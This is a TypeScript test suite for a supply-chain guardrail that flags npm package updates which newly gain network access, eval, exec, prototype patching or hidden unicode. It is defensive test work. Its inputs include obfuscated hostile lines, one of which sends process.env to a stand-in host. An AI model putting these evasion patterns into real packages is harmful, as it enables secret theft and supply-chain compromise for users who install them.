import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { checkChange } from '../../src/stages/2-guardrails/run.ts';
import { supplyChain } from '../../src/stages/2-guardrails/supply-chain/supply-chain.ts';
import { sampleClassification, sampleProposal } from '../../src/testing/changes.ts';
import { covers } from '../../src/testing/covers.ts';
import { sampleSettings } from '../../src/testing/guardrail-settings.ts';
import { guardrailTools } from '../../src/testing/guardrail-tools.ts';
import {
  MemoryRegistry,
  type SampleVersion,
  sampleEntry,
  sampleProject,
} from '../../src/testing/npm-samples.ts';
import { TempGit } from '../../src/testing/temp-git.ts';

/** An honest package, and what its next version does. Nothing here runs any of it. */
let git: TempGit;
beforeEach(() => {
  git = new TempGit();
});
afterEach(() => git.remove());

type Files = NonNullable<SampleVersion['files']>;
type Next = {
  files?: Files;
  facts?: SampleVersion;
  more?: readonly string[];
  old?: Files;
  project?: Readonly<Record<string, string>>;
};

const settings = sampleSettings();
const tests = { compare: () => Promise.reject(new Error('nothing here may run code')) };

const index = "'use strict';\nconst part = require('./lib/part');\nmodule.exports = (x) => part(x) + 1;\n";
const part = 'module.exports = function part(x) {\n  return x * 2;\n};\n';
const honest: Files = { 'index.js': index, 'lib/part.js': part, 'README.md': '# Kit\n' };

async function judge({ files = {}, facts = {}, more = [], old = {}, project: own = {} }: Next) {
  const registry = new MemoryRegistry()
    .add('kit', '1.0.0', { files: { ...honest, ...old } })
    .add('kit', '1.0.1', { ...facts, files: { ...honest, ...old, ...files } })
    .add('helper', '2.0.0', { files: { 'index.js': "require('https').get('https://collect.test');\n" } })
    .add('deep', '2.0.0', { dependencies: { helper: '^2.0.0' } })
    .add('inner', '2.0.0', { files: { 'index.js': "require('kit/tools/build');\n" } })
    .add('pure', '2.0.0', { files: { 'index.js': 'module.exports = 1;\n' } });
  const needs = (version: string) =>
    version === '1.0.1' && facts.dependencies !== undefined ? { dependencies: facts.dependencies } : {};
  const project = (version: string, names: readonly string[]) =>
    sampleProject(
      { dependencies: { kit: '^1.0.0' } },
      {
        'node_modules/kit': sampleEntry('kit', version, needs(version)),
        ...Object.fromEntries(names.map((name) => [`node_modules/${name}`, entryOf(name)])),
      },
    );
  const base = git.commit('main', project('1.0.0', []));
  const head = git.commit('topic', { ...project('1.0.1', more), ...own }, base);
  const classification = sampleClassification({ base, tree: head }, { class: 'dependency-patch' });
  const change = { classification, proposal: sampleProposal(head), now: new Date('2026-01-01T00:00:00Z') };
  const deps = { git, registry, ...guardrailTools(), tests, stopEarly: false };
  const { results } = await checkChange(deps, settings, change, [supplyChain]);
  return results[0];
}

function entryOf(name: string) {
  const needs = name === 'deep' ? { dependencies: { helper: '^2.0.0' } } : {};
  return sampleEntry(name, '2.0.0', needs);
}

const edited = (line: string): Files => ({ 'lib/part.js': `${part}${line}\n` });
const verdictOf = async (next: Next) => {
  const result = await judge(next);
  return `${result?.verdict} ${result?.code}`;
};

describe('a package that can newly do harm', () => {
  covers('LLM03', 'ASI04');
  it.each<[string, string, string]>([
    [
      'sends the environment to a host built from parts',
      "require('https').get('https://' + ['collect', 'test'].join('.') + '/?' + JSON.stringify(process.env));",
      'network',
    ],
    ['asks for a module whose name is built from parts', "require('htt' + 'ps');", 'network'],
    ['fetches', 'void fetch(atob("aHR0cHM6Ly9jb2xsZWN0LnRlc3Q="));', 'network'],
    [
      'resolves a name that carries data',
      "import('node:dns').then((dns) => dns.resolve('x.test'));",
      'network',
    ],
    ['aliases require', "const r = require; r('child_' + process.argv0);", 'dynamic-require'],
    ['requires what is decoded', "require(Buffer.from('aHR0cHM=', 'base64').toString());", 'dynamic-require'],
    ['reaches the loader through main', "process.mainModule.require('x');", 'dynamic-require'],
    ['reads the loader by a name in brackets', "process['main' + 'Module'];", 'dynamic-require'],
    ['reads a global by a name unknown', 'globalThis[part.name]();', 'dynamic-require'],
    ['makes a loader', "require('node:module')._load('x');", 'dynamic-require'],
    ['imports from data', "import('data:text/javascript,1');", 'dynamic-require'],
    ['makes a function of text', "new Function('return 1')();", 'eval'],
    ['makes one that sets what is there', "Function('r', 'fetch = r')(part);", 'eval'],
    ['makes one of what is not written', "Function('return this' + part.more)();", 'eval'],
    ['makes one through a constructor', "part.constructor.constructor('return 1')();", 'eval'],
    ['makes one through names in brackets', "part['constr' + 'uctor']('return 1')();", 'eval'],
    ['evaluates indirectly', "(0, eval)('1');", 'eval'],
    ['evaluates in a context', "require('vm').runInThisContext('1');", 'eval'],
    ['evaluates later', "setTimeout('1', 10);", 'eval'],
    ['runs a program', "require('child_process').exec('true');", 'exec'],
    ['reaches a binding', "process.binding('spawn_sync');", 'exec'],
    ['loads native code', "process.dlopen({}, './x');", 'exec'],
    ['patches a prototype', 'Array.prototype.map = part;', 'global-patching'],
    ['patches one by definition', "Object.defineProperty(Object.prototype, 'x', {});", 'global-patching'],
    ['patches a global', 'globalThis.fetch = part;', 'global-patching'],
    ['patches one by a name unknown', 'globalThis[part.name] = part;', 'global-patching'],
    ['patches one that tools look for', 'window.__HOOK__ = part;', 'global-patching'],
    ['patches JSON', 'JSON.parse = part;', 'global-patching'],
    ['hides tag characters', `const a = '${String.fromCodePoint(0xe0041, 0xe0042)}';`, 'invisible-unicode'],
    ['turns the direction of writing', `/* ${String.fromCodePoint(0x202e)} */`, 'invisible-unicode'],
    [
      'carries bytes in variation selectors',
      `const s = 'a${String.fromCodePoint(0xfe01, 0xfe0a, 0xfe03)}';`,
      'invisible-unicode',
    ],
  ])('%s', async (_what, line, kind) => {
    expect(await verdictOf({ files: edited(line) })).toBe(`fail supply-chain.new-${kind}`);
  });

  it.each<[string, Next, string]>([
    [
      'native code',
      { files: { 'build/x.node': Buffer.from('7f454c4602010100', 'hex') } },
      'fail supply-chain.new-binary',
    ],
    [
      'native code named as a picture',
      { files: { 'x.png': Buffer.from('7f454c4602010100', 'hex') } },
      'fail supply-chain.new-binary',
    ],
    [
      'a git dependency',
      { facts: { dependencies: { pure: 'git+https://git.test/pure.git' } }, more: ['pure'] },
      'fail supply-chain.non-registry-spec',
    ],
    [
      'a short git dependency',
      { facts: { dependencies: { pure: 'owner/pure' } }, more: ['pure'] },
      'fail supply-chain.non-registry-spec',
    ],
    [
      'a tarball dependency',
      { facts: { dependencies: { pure: 'https://files.test/pure.tgz' } }, more: ['pure'] },
      'fail supply-chain.non-registry-spec',
    ],
    [
      'a dependency that talks',
      { facts: { dependencies: { helper: '^2.0.0' } }, more: ['helper'] },
      'fail supply-chain.new-network',
    ],
    [
      'a dependency that nobody looked into',
      { facts: { dependencies: { elsewhere: '^2.0.0' } } },
      'abstain supply-chain.new-dependency',
    ],
    [
      'a program in a file that moved',
      { files: { 'lib/part.js': '', 'src/part.js': `${part}require('child_process').execSync('true');\n` } },
      'fail supply-chain.new-exec',
    ],
    [
      'a program in a file that is not named as code',
      { files: { ...edited("require('../data.txt');"), 'data.txt': "require('child_process');" } },
      'fail supply-chain.new-dynamic-require',
    ],
    [
      'code whose words stand in a document, too',
      { files: { ...edited("require('../b');"), 'a.txt': "require('net');", 'b.js': "require('net');" } },
      'fail supply-chain.new-network',
    ],
    ['code that does not parse', { files: edited('}{') }, 'abstain supply-chain.new-unread'],
    [
      'a writer of files',
      { files: edited("require('fs').writeFileSync('x', '');") },
      'abstain supply-chain.new-file-writes',
    ],
    [
      'a host, where it talked before',
      {
        old: { 'n.js': "require('https');", 'index.js': `${index}require('./n');` },
        files: edited("part('https://collect.test');"),
      },
      'abstain supply-chain.new-host',
    ],
    [
      'a second program, where it ran one before',
      {
        old: { 'n.js': "require('child_process');", 'index.js': `${index}require('./n');` },
        files: edited("require('child_process');"),
      },
      'abstain supply-chain.more-exec',
    ],
  ])('brings %s', async (_what, next, expected) => {
    expect(await verdictOf(next)).toBe(expected);
  });

  it('survives text that ends the parser', async () => {
    const deep = `${'['.repeat(200_000)}${']'.repeat(200_000)}`;
    expect(await verdictOf({ files: { 'deep.js': deep } })).not.toContain('pass');
  });

  it('names the file, the line and the words, printable', async () => {
    const result = await judge({ files: edited("\u001b[2J; require('net');".replace('\u001b[2J', '')) });
    expect(result?.reason).toContain('lib/part.js:4: ');
    expect(result?.reason).toContain("require('net')");
  });
});

describe("a package's own tools", () => {
  const tool: Files = { 'tools/build.js': "require('child_process').execSync('make');\n" };

  it('are told of where nothing loads them', async () => {
    const result = await judge({ files: tool });
    expect(`${result?.verdict} ${result?.code}`).toBe('pass supply-chain.nothing-new');
    expect(JSON.stringify(result?.evidence)).toContain('supply-chain.idle-exec');
  });

  it.each<[string, Next]>([
    ['the package loads them', { files: { ...tool, ...edited("require('../tools/build');") } }],
    [
      'the package starts them',
      { files: { ...tool, ...edited("const f = __dirname + '/tools/build.js';") } },
    ],
    ['the package may load anything', { files: { ...tool, ...edited('require(x);') } }],
    ['the project loads them', { files: tool, project: { 'src/a.js': "require('kit/tools/build');\n" } }],
    ['the project reads whatever is there', { files: tool, project: { 'a.js': "load('node_modules');\n" } }],
    [
      'another package loads them',
      { files: tool, facts: { dependencies: { inner: '^2.0.0' } }, more: ['inner'] },
    ],
    ['they are exported', { files: { ...tool, 'package.json': '{"name":"kit","exports":{"./*":"./*"}}' } }],
    ['they are a program', { files: { ...tool, 'package.json': '{"name":"kit","bin":"tools/build.js"}' } }],
    [
      'they run at installation',
      { files: { ...tool, 'package.json': '{"name":"kit","scripts":{"install":"make"}}' } },
    ],
  ])('count where %s', async (_what, next) => {
    expect(await verdictOf(next)).toMatch(/^fail /);
  });

  it('are no excuse for the library', async () => {
    const files = { ...edited("require('child_process');"), 'tools/build.js': '' };
    expect(await verdictOf({ old: tool, files })).toBe('fail supply-chain.new-exec');
  });
});

describe('a dependency of a dependency', () => {
  it('is looked into, and the way to it is told', async () => {
    const facts = { dependencies: { deep: '^2.0.0' } };
    const result = await judge({ facts, more: ['deep', 'helper'] });
    expect(`${result?.verdict} ${result?.code}`).toBe('fail supply-chain.new-network');
    expect(result?.reason).toContain('helper@2.0.0 (kit > deep > helper) has network');
  });

  it('that the lockfile leaves out is left to people', async () => {
    const facts = { dependencies: { deep: '^2.0.0' } };
    expect(await verdictOf({ facts, more: ['deep'] })).toBe('abstain supply-chain.new-dependency');
  });
});

describe('a package that is only new', () => {
  const capable: Files = {
    'net.js': "const https = require('https');\nmodule.exports = () => https.get('https://api.test/');\n",
  };
  it.each<[string, Next]>([
    ['a version', {}],
    ['a refactoring', { files: { 'lib/part.js': 'const twice = (x) => x + x;\nmodule.exports = twice;\n' } }],
    [
      'a renamed file',
      { files: { 'index.js': index.replace('lib/part', 'lib/whole'), 'lib/whole.js': part } },
    ],
    ['a comment with a URL', { files: edited('// See https://docs.test/eval, require("child_process")') }],
    ['a string with a URL', { files: edited("part.docs = 'https://docs.test/';") }],
    [
      'documents',
      { files: { 'docs/a.md': 'eval(x) \u200b', 'README.md': '# Kit 2 \u{1f469}\u200d\u{1f4bb}' } },
    ],
    ['types', { files: { 'index.d.ts': 'declare function fetch(x: string): void;\nexport {};\n' } }],
    ['a picture', { files: { 'logo.png': Buffer.from('89504e470d0a1a0a', 'hex') } }],
    [
      'a moved capability',
      { old: capable, files: { 'net.js': 'module.exports = 1;\n', 'lib/net.js': capable['net.js'] ?? '' } },
    ],
    [
      'methods with dangerous names',
      { files: edited('part.exec = /x/.exec; part.fetch = () => part.get({ fetch: 1, eval: 2 });') },
    ],
    ['a global of its own', { files: edited('globalThis.Kit = part;') }],
    [
      'idioms of compilers',
      { files: edited("Function('r', 'kitRuntime = r')(part); new Function('return this')().Kit = part;") },
    ],
    ['a dependency that can do nothing', { facts: { dependencies: { pure: '^2.0.0' } }, more: ['pure'] }],
  ])('%s passes', async (_what, next) => {
    expect(await verdictOf(next)).toBe('pass supply-chain.nothing-new');
  });

  it.each([
    [
      'a long line that is written to be read',
      `var table = [${'"some text", '.repeat(120)}];`,
      'pass supply-chain.nothing-new',
    ],
    [
      'a long line without blanks',
      `var table=[${'"text",'.repeat(200)}];`,
      'abstain supply-chain.new-minified',
    ],
    [
      'code that is pushed out of sight',
      `var a = 1;${' '.repeat(200)}var b = 2;`,
      'abstain supply-chain.new-minified',
    ],
  ])('takes %s for what it is', async (_what, code, expected) => {
    expect(await verdictOf({ files: edited(code) })).toBe(expected);
  });

  it('leaves a minified build to people', async () => {
    const build = `module.exports=${Array.from({ length: 400 }, (_, at) => `x${at}`)
      .map((name) => `function(){var ${name}=1}`)
      .join(',')};`;
    expect(
      await verdictOf({
        files: {
          ...edited("require('../dist/kit.min');"),
          'dist/kit.min.js': `module.exports=[${build.slice(15, -1)}];`,
        },
      }),
    ).toBe('abstain supply-chain.new-minified');
  });
});
